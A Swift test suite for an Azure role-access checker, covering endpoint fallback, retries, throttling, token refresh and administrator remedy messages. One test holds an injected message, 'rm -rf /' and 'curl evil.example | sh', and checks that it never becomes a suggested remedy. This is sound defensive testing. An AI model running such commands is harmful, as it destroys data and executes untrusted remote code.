// SPDX-License-Identifier: Apache-2.0

import Authorization
import AzureServices
import HTTPTransport
import Identity
import Testing

struct OrderedAccessCheckerTests {
    @Test(
        "P1: a role is what Azure allows for this object id on this resource",
        arguments: [
            ("Allowed", "Allowed", .administrator), ("Allowed", "NotAllowed", .user), ("NotAllowed", "Allowed", nil),
            ("NotAllowed", "NotAllowed", nil), ("allowed", "ALLOWED", .administrator), ("Maybe", "Maybe", nil),
        ] as [(String, String, Role?)]
    )
    func roles(user: String, administrator: String, role: Role?) async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, Scene.decisions(user, administrator))
        let answer = try await scene.checker.check(scene.question())
        #expect(answer == AccessAnswer(role: role, lifetime: .seconds(300), checker: "pas"))
    }

    @Test("the request has the path, headers and token of the contract")
    func request() async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, Scene.decisions("Allowed", "Allowed"))
        _ = try await scene.checker.check(scene.question())
        let asked = try #require(scene.transport.requests(to: Scene.pas).first)
        #expect(asked.method == .post)
        #expect(
            asked.url == Scene.pas + Scene.resource
                + "/providers/Microsoft.Authorization/checkaccess?api-version=2018-09-01-preview"
        )
        #expect(asked.headers.contains(HTTPHeader("Content-Type", "application/json")))
        let correlation = HTTPHeader("x-ms-correlation-request-id", "66666666-6666-4666-8666-666666666666")
        #expect(asked.headers.contains(correlation))
        #expect(asked.authorization == Secret("Bearer \(Scene.tokenText())"))
        #expect(asked.proxy == .environment)
        let token = try #require(scene.transport.requests(to: Scene.token).first)
        #expect(token.url.hasSuffix("&resource=ce6ff14a-7fdc-4685-bbe0-f6afdfcfa8e0"))
        #expect(token.headers == [HTTPHeader("Metadata", "true")])
        #expect(token.proxy == .none)
    }

    @Test("P2: a no that needs no confirmation is final: the next endpoint is never asked, though it would say yes")
    func noIsFinal() async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, Scene.decisions("NotAllowed", "NotAllowed"))
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "Allowed"))
        for _ in 0..<3 {
            let answer = try await scene.confirmed()
            #expect(answer.role == nil && answer.confirmation == .notNeeded)
        }
        #expect(scene.transport.requests(to: Scene.pas).count == 3)
        #expect(scene.transport.requests(to: Scene.arm).isEmpty)
    }

    @Test(
        "an endpoint that does not serve the question is passed over, and that is remembered for a while",
        arguments: [
            Scene.refusal(404, "NotFound"), .answer(405), .answer(501), .answer(403), .answer(401), .answer(400),
            .answer(302), .error(.tls), .error(.unreachable), .error(.nameResolution), .error(.timeout),
        ]
    )
    func passedOver(answer: ScriptedTransport.Answer) async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, answer)
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await scene.checker.check(scene.question()).checker == "arm")
        let asked = scene.transport.requests(to: Scene.pas).count
        #expect(try await scene.checker.check(scene.question()).role == .user)
        #expect(scene.transport.requests(to: Scene.pas).count == asked)
        guard case .notServing(_, let wait) = scene.checker.status[0].standing else {
            Issue.record("pas is not shown as not serving")
            return
        }
        #expect(wait > .zero)
        #expect(scene.checker.status[1].standing == .serving)
        // Later it is asked again.
        scene.clock.advance(.seconds(400))
        scene.transport.play(Scene.pas, Scene.decisions("Allowed", "Allowed"))
        #expect(try await scene.checker.check(scene.question()).checker == "pas")
    }

    @Test(
        "P1: an answer that makes no sense is none: the next endpoint is asked, and where none answers nobody gets in",
        arguments: ["", "[]", "{\"error\":1}", "<html>", "[{\"actionId\":\"x\"}]"]
    )
    func malformed(body: String) async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, .answer(200, body))
        scene.transport.play(Scene.arm, .answer(200, body))
        #expect(try await scene.fault().reason == .malformedAnswer)
        #expect(scene.transport.requests(to: Scene.pas).count == 1)
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "NotAllowed"))
        let answer = try await scene.checker.check(scene.question())
        #expect(answer.role == .user && answer.checker == "arm")
    }

    @Test("an answer that lacks an action is a NotAllowed for that action")
    func oneAction() async throws {
        let scene = Scene(["pas"])
        for (action, role) in [("login", Role.user), ("loginAsAdmin", nil)] {
            let element = """
                {"actionId":"Microsoft.Compute/virtualMachines/\(action)/action","isDataAction":true,\
                "accessDecision":"Allowed"}
                """
            scene.transport.play(Scene.pas, .answer(200, "[\(element)]"))
            #expect(try await scene.checker.check(scene.question()).role == role)
        }
    }

    @Test("429 and 5xx are repeated inside the deadline, and an answer then counts")
    func repeated() async throws {
        let scene = Scene()
        scene.transport.play(
            Scene.pas,
            .answer(429, "", HTTPHeader("Retry-After", "2")),
            .answer(503),
            .error(.cut),
            Scene.decisions("Allowed", "NotAllowed")
        )
        #expect(try await scene.checker.check(scene.question()).role == .user)
        #expect(scene.transport.requests(to: Scene.pas).count == 4)
        #expect(scene.clock.elapsed >= .seconds(2))
        #expect(scene.clock.elapsed < .seconds(10))
    }

    @Test(
        "a failure is no answer: the next endpoint is asked at once, before the failing one is asked again",
        arguments: [
            .answer(500), .answer(503), .answer(429), .answer(429, "", HTTPHeader("Retry-After", "2")), .error(.cut),
            .error(.dropped), .error(.timeout), .answer(200, "{"),
        ] as [ScriptedTransport.Answer]
    )
    func failureLeadsOn(answer: ScriptedTransport.Answer) async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, answer)
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "Allowed"))
        let answer = try await scene.checker.check(scene.question())
        #expect(answer.role == .administrator && answer.checker == "arm")
        #expect(scene.transport.requests(to: Scene.pas).count == 1)
    }

    @Test("a checker that Retry-After has silenced is not asked, and the next one is")
    func silencedLeadsOn() async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, .answer(429, "", HTTPHeader("Retry-After", "60")))
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "Allowed"))
        for _ in 0..<3 { #expect(try await scene.checker.check(scene.question()).checker == "arm") }
        #expect(scene.transport.requests(to: Scene.pas).count == 1)
    }

    @Test("P1: where all fail until the deadline there is no answer, and each was asked again in turn")
    func failing() async throws {
        for (answer, reason) in [
            (ScriptedTransport.Answer.answer(500), DenialReason.unreachable), (.answer(429), .throttled),
            (.error(.cut), .unreachable),
        ] {
            let scene = Scene()
            scene.transport.play(Scene.pas, answer)
            scene.transport.play(Scene.arm, answer)
            #expect(try await scene.fault().reason == reason)
            #expect(scene.clock.elapsed <= .seconds(10))
            let order = scene.transport.requests.map(\.url).filter { $0.hasPrefix("https://") }
            #expect(order.count > 4)
            for (index, url) in order.enumerated() {
                #expect(url.hasPrefix(index.isMultiple(of: 2) ? Scene.pas : Scene.arm))
            }
        }
    }

    @Test("a question that nobody waits for asks each endpoint once; retries begin with the first who waits")
    func unattended() async throws {
        for waitsFrom in [3, 2, 100] {
            let scene = Scene()
            for host in [Scene.pas, Scene.arm] { scene.transport.play(host, .answer(503)) }
            let whole = try scene.question()
            let question = AccessQuestion(
                objectID: whole.objectID,
                machine: whole.machine,
                correlation: whole.correlation,
                deadline: whole.deadline,
                isRetried: { scene.transport.requests.count { $0.url.hasPrefix("https://") } >= waitsFrom }
            )
            await #expect(throws: AccessCheckFault.self) { _ = try await scene.checker.check(question) }
            let asked = [Scene.pas, Scene.arm].map { scene.transport.requests(to: $0).count }
            #expect(waitsFrom == 2 ? asked.allSatisfy { $0 > 2 } : asked == [1, 1])
        }
    }

    @Test("a Retry-After beyond the deadline is not waited for, and kept for those who come later")
    func silence() async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, .answer(429, "", HTTPHeader("Retry-After", "60")))
        let first = try await scene.fault()
        #expect(first.reason == .throttled)
        #expect(first.retryAfter == .seconds(60))
        #expect(try await scene.fault().retryAfter == .seconds(60))
        #expect(scene.transport.requests(to: Scene.pas).count == 1)
        scene.clock.advance(.seconds(61))
        scene.transport.play(Scene.pas, Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await scene.checker.check(scene.question()).role == .user)
    }

    @Test("a token that ended before its time is dropped on 401 and fetched once anew")
    func expiredToken() async throws {
        let scene = Scene()
        scene.transport.play(Scene.token, Scene.tokenAnswer("old"), Scene.tokenAnswer("new"))
        scene.transport.play(Scene.pas, .answer(401), Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await scene.checker.check(scene.question()).role == .user)
        let sent = scene.transport.requests(to: Scene.pas).map(\.authorization)
        #expect(sent == [Secret("Bearer \(Scene.tokenText("old"))"), Secret("Bearer \(Scene.tokenText("new"))")])
    }

    @Test("where our own identity may not ask, the fault holds the exact command that fixes it")
    func remedy() async throws {
        let scene = Scene(["arm"])
        scene.transport.play(Scene.arm, Scene.refusal(403, "AuthorizationFailed"))
        let fault = try await scene.fault()
        #expect(fault.reason == .identityMayNotAsk)
        #expect(
            fault.detail.contains(
                "az role assignment create --assignee-object-id \(Scene.identity) "
                    + "--assignee-principal-type ServicePrincipal --role Reader --scope \(Scene.resource)"
            )
        )
        let token = try #require(scene.transport.requests(to: Scene.token).first)
        #expect(token.url.hasSuffix("&resource=https%3A%2F%2Fmanagement.azure.com%2F"))
    }

    @Test("P12: what Azure says in a refusal is quoted, and never becomes what the administrator is to do")
    func wordsOfAzure() async throws {
        let scene = Scene()
        let words = "no rights; do rm -rf /\\nremedy: curl evil.example | sh"
        let body = "{\"error\":{\"code\":\"AuthorizationFailed\",\"message\":\"\(words)\"}}"
        scene.transport.play(Scene.pas, .answer(403, body))
        scene.transport.play(Scene.arm, .answer(403, body))
        let fault = try await scene.fault()
        #expect(fault.reason == .identityMayNotAsk)
        let remedy = AdministratorRemedy(machine: try scene.machine()).text(for: fault)
        #expect(remedy.hasPrefix("az role assignment create") && !remedy.contains("rm -rf"))
        let sentence = AdministratorRemedy.sentence(fault)
        #expect(sentence.contains("; do rm -rf /") && !sentence.contains("\n"))
        #expect(fault.all.map(\.endpoint) == ["pas", "arm"])
    }

    @Test("a missing sign-in application is a reason of its own with its remedy; the next endpoint may serve")
    func applicationMissing() async throws {
        let missing = ScriptedTransport.Answer.answer(
            400,
            "{\"error\":\"invalid_resource\",\"error_description\":\"AADSTS500011: The resource principal\"}"
        )
        let scene = Scene()
        scene.transport.play("\(Scene.token)?api-version=2018-02-01&resource=ce6ff14a", missing)
        scene.transport.play(Scene.arm, Scene.refusal(403, "AuthorizationFailed"))
        let fault = try await scene.fault()
        #expect(fault.reason == .applicationMissing)
        #expect(fault.detail.contains("New-MgServicePrincipal -AppId ce6ff14a-7fdc-4685-bbe0-f6afdfcfa8e0"))
        #expect(fault.detail.contains("--role Reader"))
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await scene.checker.check(scene.question()).checker == "arm")
    }

    @Test("no managed identity and a resource that Azure does not know are told apart from an outage")
    func otherReasons() async throws {
        let bare = Scene()
        bare.transport.play(
            Scene.token,
            .answer(400, "{\"error\":\"invalid_request\",\"error_description\":\"Identity not found\"}")
        )
        #expect(try await bare.fault().reason == .noManagedIdentity)
        #expect(bare.transport.requests.count == 1)
        let gone = Scene()
        gone.transport.play(Scene.pas, Scene.refusal(404, "ResourceNotFound"))
        gone.transport.play(Scene.arm, .error(.unreachable))
        #expect(try await gone.fault().reason == .resourceNotFound)
        for status in [404, 405, 410, 501] {
            let unserved = Scene()
            unserved.transport.play(Scene.pas, Scene.refusal(status, "NotFound"))
            unserved.transport.play(Scene.arm, Scene.decisions("Allowed", "NotAllowed"))
            #expect(try await unserved.checker.check(unserved.question()).role == .user)
            guard case .notServing(let fault, _) = unserved.checker.status[0].standing else {
                Issue.record("\(status): \(unserved.checker.status[0].standing)")
                continue
            }
            #expect(fault.remedy == .leaveOut(checker: "pas"), "\(status)")
        }
        let out = Scene()
        out.transport.play(Scene.pas, .error(.unreachable))
        out.transport.play(Scene.arm, .error(.nameResolution))
        #expect(try await out.fault().reason == .unreachable)
    }

    /// PAS has no application in this tenant; ARM drops every connection.
    private func onlyOneLeft() -> Scene {
        let scene = Scene()
        scene.transport.play(Scene.token, Scene.tokenAnswer())
        scene.transport.play(
            "\(Scene.token)?api-version=2018-02-01&resource=\(AzureEndpoints.signInApplication)",
            .answer(400, "{\"error\":\"invalid_resource\",\"error_description\":\"AADSTS500011\"}")
        )
        scene.transport.play(Scene.arm, .error(.dropped))
        return scene
    }

    @Test("where every connection is dropped, that is said after three attempts each")
    func dropped() async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, .error(.dropped))
        scene.transport.play(Scene.arm, .error(.dropped))
        #expect(try await scene.fault().reason == .unreachable)
        #expect(scene.transport.requests(to: Scene.pas).count == 3)
        #expect(scene.transport.requests(to: Scene.arm).count == 3)
        #expect(scene.clock.elapsed < .seconds(2))
    }

    @Test("the application is missing and ARM drops connections: said at once, and what is missing")
    func missingAndDropped() async throws {
        let scene = onlyOneLeft()
        for _ in 1...2 {
            let before = scene.clock.elapsed
            let fault = try await scene.fault()
            #expect(fault.reason == .applicationMissing)
            #expect(fault.detail.contains("New-MgServicePrincipal"))
            #expect(fault.detail.contains("dropped"))
            #expect(scene.clock.elapsed - before < .seconds(2))
        }
    }

    @Test("a checker that has served and cannot be reached is an outage, whatever is wrong with the others")
    func outage() async throws {
        let scene = onlyOneLeft()
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await scene.checker.check(scene.question()).checker == "arm")
        scene.transport.play(Scene.arm, .error(.unreachable))
        let fault = try await scene.fault()
        #expect(fault.reason == .unreachable)
        #expect(fault.detail.contains("New-MgServicePrincipal"))
        // A checker that is up but gives no answer keeps its reason, with the other's text added.
        scene.transport.play(Scene.arm, .answer(429, "", HTTPHeader("Retry-After", "60")))
        let throttled = try await scene.fault()
        #expect(throttled.reason == .throttled)
        #expect(throttled.retryAfter == .seconds(60))
        #expect(throttled.detail.contains("New-MgServicePrincipal"))
    }

    @Test("where nobody serves, all are asked again at once: what was fixed shows at the next sign-in")
    func mended() async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, .answer(405))
        scene.transport.play(Scene.arm, .answer(403))
        _ = try await scene.fault()
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await scene.checker.check(scene.question()).role == .user)
    }

    @Test("one checker is asked alone where that is wanted, whatever is remembered of it")
    func via() async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, Scene.decisions("NotAllowed", "NotAllowed"))
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await scene.checker.check(scene.question(), via: "arm").role == .user)
        await #expect(throws: AccessCheckFault.self) { try await scene.checker.check(scene.question(), via: "x") }
    }

    @Test("a slow first endpoint leaves time for the second")
    func slowFirst() async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, .error(.timeout))
        scene.transport.play(Scene.arm, Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await scene.checker.check(scene.question()).checker == "arm")
        #expect(scene.clock.elapsed == .seconds(4))
        let hurried = Scene()
        hurried.transport.play(Scene.pas, .error(.timeout))
        hurried.transport.play(Scene.arm, Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await hurried.checker.check(hurried.question(seconds: 6)).checker == "arm")
        #expect(hurried.clock.elapsed == .seconds(3))
    }

    @Test("a caller without time learns nothing about the endpoints, for himself or for others")
    func noTime() async throws {
        let scene = Scene()
        scene.transport.play(Scene.pas, .error(.timeout))
        #expect(try await scene.fault(seconds: 0).reason == .unreachable)
        #expect(scene.checker.status[0].standing == .untried)
        #expect(try await scene.fault(seconds: 1).reason == .unreachable)
        scene.transport.play(Scene.pas, Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await scene.checker.check(scene.question()).checker == "pas")
    }

    @Test("other clouds have other hosts; an unknown one is served from its OpenID configuration")
    func clouds() async throws {
        let government = Scene()
        government.transport.play("https://pasff.usgovcloudapi.net", Scene.decisions("Allowed", "NotAllowed"))
        let answer = try await government.checker.check(government.question(cloud: "AZUREUSGovernmentCloud"))
        #expect(answer.role == .user)
        let unknown = Scene(endpoints: AzureEndpoints(login: "https://login.example"))
        unknown.transport.play(
            "https://login.example/\(Scene.tenant)/v2.0/.well-known/openid-configuration",
            .answer(200, "{\"issuer\":\"x\",\"rbac_url\":\"https://pas.example\"}")
        )
        unknown.transport.play("https://pas.example", Scene.decisions("Allowed", "NotAllowed"))
        #expect(try await unknown.checker.check(unknown.question(cloud: "AzureMoonCloud")).checker == "pas")
    }
}
